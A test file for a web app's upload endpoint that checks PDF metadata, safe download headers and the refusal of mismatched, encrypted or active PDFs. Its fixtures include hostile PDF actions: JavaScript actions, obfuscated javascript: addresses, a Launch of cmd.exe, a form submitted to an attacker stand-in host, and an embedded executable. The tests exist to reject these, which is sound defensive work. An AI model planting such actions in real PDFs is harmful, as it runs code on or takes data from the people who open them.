import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Caller, startTestApp, type TestApp } from '../../platform/test/test-app.ts';
import { sheetOf, workbookOf } from '../../platform/test/test-files.ts';
import { uploadMedium } from '../../platform/test/test-media.ts';
import { pdfOf } from '../../platform/test/test-pdf.ts';
import { pngOf } from '../../platform/test/test-pictures.ts';

let api: TestApp;
let admin: Caller;
beforeAll(async () => {
  api = await startTestApp();
  admin = await api.signIn('Admin');
});
afterAll(() => api.close());

const add = (name: string, bytes: Buffer) =>
  uploadMedium(api, admin, '/api/v1/media?kind=file', { name, bytes });

test('a PDF says how many pages it has, whether they have text and tags, and shows its first page', async () => {
  const { status, body } = await add('Annual report 2026.PDF', pdfOf({ pages: 3, isTagged: true }));
  expect([status, body.current]).toMatchObject([
    201,
    {
      file_name: 'Annual report 2026.pdf',
      media_type: 'application/pdf',
      pages: 3,
      text_layer: 'all',
      is_tagged: true,
    },
  ]);
  expect(body.picture).toMatchObject({ width: 640, height: 906, widths: [320, 640] });
  expect(body.is_described).toBe(true);
  const cover = await admin.call('GET', `/api/v1/media/${body.uuid}/320.webp`);
  expect([cover.status, cover.headers['content-disposition']]).toEqual([200, 'inline']);
});

test('a scan is known as one, and a PDF that is partly a scan too', async () => {
  const scan = await add('scan.pdf', pdfOf({ pages: 2, withText: 0 }));
  expect(scan.body.current).toMatchObject({ text_layer: 'none', is_tagged: false });
  const part = await add('part.pdf', pdfOf({ pages: 4, withText: 1 }));
  expect(part.body.current).toMatchObject({ text_layer: 'some', pages: 4 });
});

test('a file is saved and never opened in place of a page, under a name that fits its bytes', async () => {
  const { body } = await add('Laporan – Q3;"x.pdf', pdfOf());
  const { status, headers, raw } = await admin.call('GET', `/api/v1/media/${body.uuid}`);
  expect([status, headers['content-type'], raw.subarray(0, 5).toString()]).toEqual([
    200,
    'application/pdf',
    '%PDF-',
  ]);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['content-security-policy']).toContain('sandbox');
  expect(headers['content-disposition']).toMatch(
    /^attachment; filename="[\w .()-]+\.pdf"; filename\*=UTF-8''/,
  );
});

test('workbooks and CSV files of publications are kept, as what their bytes are', async () => {
  const book = workbookOf(
    't',
    sheetOf('<row r="1"><c r="A1" t="inlineStr"><is><t>Cement</t></is></c></row>'),
  );
  expect((await add('tables.xlsx', book.bytes)).body.current).toMatchObject({
    pages: null,
    text_layer: null,
  });
  const csv = await add('tables.csv', Buffer.from('item,price\nCement,22.65\n'));
  expect(csv.body.current.media_type).toBe('text/csv; charset=utf-8');
  expect(csv.body.picture).toBeNull();
});

const ACTS =
  'This PDF runs scripts, sends forms or carries other files; save or print it anew as a plain PDF.';
const SCRIPT = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>';
const archive = () => Buffer.from(zipSync({ 'a.txt': strToU8('archive') }));
const refused: Readonly<Record<string, [string, () => Buffer | Promise<Buffer>, string]>> = {
  'an archive named .pdf': [
    'report.pdf',
    archive,
    'This file is named .pdf, but it holds something else. Check which file you chose.',
  ],
  'a page named .pdf': [
    'report.pdf',
    () => Buffer.from('<!doctype html><p>%PDF-1.7</p>'),
    'This file is named .pdf, but it holds something else. Check which file you chose.',
  ],
  'a PDF named .csv': [
    'report.csv',
    () => pdfOf(),
    'This file is named .csv, but it holds something else. Check which file you chose.',
  ],
  'an archive named .xlsx': ['tables.xlsx', archive, 'This workbook could not be read.'],
  'a picture': ['site.png', () => pngOf(9, 9), 'Only PDF, XLSX and CSV files can be kept.'],
  'a program': ['setup.exe', () => Buffer.from('MZ'), 'Only PDF, XLSX and CSV files can be kept.'],
  'half a PDF': [
    'half.pdf',
    () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type'),
    'This PDF could not be read; save or print it anew as PDF.',
  ],
  'a PDF that runs scripts': ['active.pdf', () => pdfOf({ more: SCRIPT }), ACTS],
};

const link = (action: string) =>
  pdfOf({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]` });
/** An object that is packed with others, as office programs write it; junk between them hides nothing. */
function packed(object: string): Buffer {
  const inside = deflateSync(Buffer.from(`9 1 ( ${object}`)).toString('latin1');
  const head = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${inside.length} >>`;
  return pdfOf({ objects: [`${head}\nstream\n${inside}\nendstream`, '<< /Note (after it) >>'] });
}
const acting: Readonly<Record<string, Buffer>> = {
  'a script when a page opens': pdfOf({ page: '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }),
  'a script of a link': link('/S /JavaScript /JS (app.alert\\(1\\))'),
  'a script under a name that is written oddly': link('/S /Java#53cript'),
  'a program that a link starts': link('/S /Launch /F (cmd.exe)'),
  'a form that is sent': link('/S /SubmitForm /F (https://evil.example)'),
  'an address that is a script': link('/S /URI /URI (java\\163cript:alert\\(1\\))'),
  'an address in digits that is a script': link('/S /URI /URI <6a6176617363726970743a61>'),
  'a program inside it': pdfOf({
    more: '/Names << /EmbeddedFiles << /Names [(setup.exe) << /Type /Filespec /EF << /F 5 0 R >> >>] >> >>',
  }),
  'a script that is packed': packed('<< /S /JavaScript /JS (x) >>'),
  'a script that its table leaves out': Buffer.concat([pdfOf(), Buffer.from('( 99 0 obj << /JS 5 0 R >>')]),
};

test.each(Object.keys(acting))('a PDF with %s is refused in words', async (what) => {
  const { status, body } = await add('acting.pdf', acting[what] ?? Buffer.alloc(0));
  expect([status, body.errors]).toEqual([422, { file: [ACTS] }]);
});

test('a PDF with plain links, bookmarks and packed objects is kept', async () => {
  const plain = link('/S /URI /URI (https://datum.example/javascript:x)');
  const bookmarks = pdfOf({ more: '/Outlines << /First 5 0 R /Title (A form/JavaScript \\(old) >>' });
  for (const bytes of [plain, bookmarks, packed('<< /Title (The JS of it) >>')]) {
    expect((await add('plain.pdf', bytes)).status).toBe(201);
  }
});

test('a PDF of objects that never end is refused', async () => {
  const endless = Buffer.concat([pdfOf(), Buffer.from('1 0 obj ('.repeat(100_000))]);
  const { body } = await add('endless.pdf', endless);
  expect(body.errors).toEqual({ file: ['This PDF could not be read; save or print it anew as PDF.'] });
});

test('a PDF whose packed objects cannot be unpacked is refused in words', async () => {
  const head = '<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 4 >>';
  const { body } = await add('odd.pdf', pdfOf({ objects: [`${head}\nstream\n3120\nendstream`] }));
  expect(body.errors).toEqual({ file: ['This PDF could not be read; save or print it anew as PDF.'] });
});

test('a PDF that asks for a password is refused in words', async () => {
  const key = `<${'0a'.repeat(32)}>`;
  const trailer = `/ID [<01> <01>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O ${key} /U ${key} >>`;
  const { body } = await add('locked.pdf', pdfOf({ trailer }));
  expect(body.errors).toEqual({ file: ['This PDF asks for a password; save it without one.'] });
});

test.each(Object.keys(refused))('%s is refused in words', async (what) => {
  const [name = '', make, sentence] = refused[what] ?? [];
  const { status, body } = await add(name, (await make?.()) ?? Buffer.alloc(0));
  expect([status, body.errors]).toEqual([422, { file: [sentence] }]);
});

test('a file has no description of a picture', async () => {
  const { body } = await add('plain.csv', Buffer.from('a,b\n1,2\n'));
  const answer = await admin.call('PUT', `/api/v1/media/${body.uuid}/facts`, {
    ...{ label: 'Plain', licence: '', is_decorative: false, alt: { en: 'A table', ms: '' }, version: 1 },
  });
  expect(answer.body.errors).toEqual({ alt: ['A file has no description of a picture.'] });
});
